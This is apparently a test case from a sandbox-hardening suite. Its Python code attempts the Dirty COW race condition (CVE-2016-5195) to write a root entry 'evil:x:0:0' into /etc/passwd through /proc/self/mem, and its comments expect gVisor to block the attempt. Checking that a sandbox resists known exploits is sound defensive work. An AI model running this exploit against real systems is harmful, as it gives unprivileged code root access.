# tries: to write into a read-only file through a private mapping and /proc/self/mem (CVE-2016-5195)
# stopped by: gVisor does its own copy on write; the file server has the file open for reading only
# want: nothing

import mmap, threading
path = "/etc/passwd"
before = open(path, "rb").read()
fd = os.open(path, os.O_RDONLY)
area = mmap.mmap(fd, len(before), mmap.MAP_PRIVATE, mmap.PROT_READ)
where = ctypes.addressof(ctypes.c_char.from_buffer_copy(b"x"))  # any address, until the map's is known
for line in open("/proc/self/maps"):
    if line.rstrip().endswith(path):
        where = int(line.split("-")[0], 16)
stop = time.monotonic() + 1.5
def forget():
    while time.monotonic() < stop:
        area.madvise(mmap.MADV_DONTNEED)
threading.Thread(target=forget).start()
def write():
    memory = os.open("/proc/self/mem", os.O_RDWR)
    while time.monotonic() < stop:
        os.pwrite(memory, b"evil:x:0:0", where)
    return None
attempt("write through /proc/self/mem", write)
attempt("the file has changed", lambda: None if open(path, "rb").read() == before else "changed")
